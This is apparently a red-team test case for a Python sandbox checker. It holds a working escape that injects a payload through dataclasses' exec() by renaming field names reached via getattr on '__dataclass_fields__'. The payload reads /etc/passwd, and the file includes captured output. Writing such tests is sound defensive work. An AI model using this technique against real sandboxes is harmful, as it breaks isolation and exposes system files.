# expect: reject builtin
# line: 39
# verified: reaches its goal under plain python3 (3.11) in a temp dir (sixth static red team, ok_09_dataclass_field_name_pasted_into_exec_getattr_dunder_reads_passwd)
# Mechanism: dataclasses pastes Field.name into the source it exec()s (_init_fn/_create_fn). A closed class's computed getattr on self (allowed by the checker, dunder names included) fetches the "__dataclass_fields__" dict, the store 'f.name = N' into those library Field objects is not refused (the store rule does not taint the result of getattr(self, k)), and a dataclass subclass then compiles __init__ from the renamed base field: N = "x=<payload>):#" makes the payload a parameter default of the generated __create_fn__, evaluated when exec defines it. RELIES on the dunder name "__dataclass_fields__" given to getattr at run time (the runtime wall's getattr refuses dunders).
# Goal: read /etc/passwd (open() called from exec'd code); the program then dies with a TypeError from dataclasses, after the goal.
# Checker: build/safe-exec-check --rules rules FILE exits 0. Output under python3 3.11 (env -i, temp dir):
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   
#   Traceback (most recent call last):
#     File "dc4.py", line 19, in <module>
#       @dataclasses.dataclass
#        ^^^^^^^^^^^^^^^^^^^^^
#     File "/usr/lib/python3.11/dataclasses.py", line 1220, in dataclass
#       return wrap(cls)
#              ^^^^^^^^^
#     File "/usr/lib/python3.11/dataclasses.py", line 1210, in wrap
#       return _process_class(cls, init, repr, eq, order, unsafe_hash,
#              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
#     File "/usr/lib/python3.11/dataclasses.py", line 1027, in _process_class
#       _init_fn(all_init_fields,
#     File "/usr/lib/python3.11/dataclasses.py", line 580, in _init_fn
#       return _create_fn('__init__',
#              ^^^^^^^^^^^^^^^^^^^^^^
#     File "/usr/lib/python3.11/dataclasses.py", line 434, in _create_fn
#       return ns['__create_fn__'](**locals)
#              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
#   TypeError: __create_fn__() got an unexpected keyword argument '_type_x=print(open('/etc/passwd').read(80))):#'
import dataclasses

N = "x=print(open('/etc/passwd').read(80))):#"


@dataclasses.dataclass
class B:
    y: dataclasses.InitVar[int] = 0

    def grab(self, k):
        return getattr(self, k)


b = B()
for f in b.grab("__" + "dataclass_fields" + "__").values():
    f.name = N


@dataclasses.dataclass
class D(B):
    pass
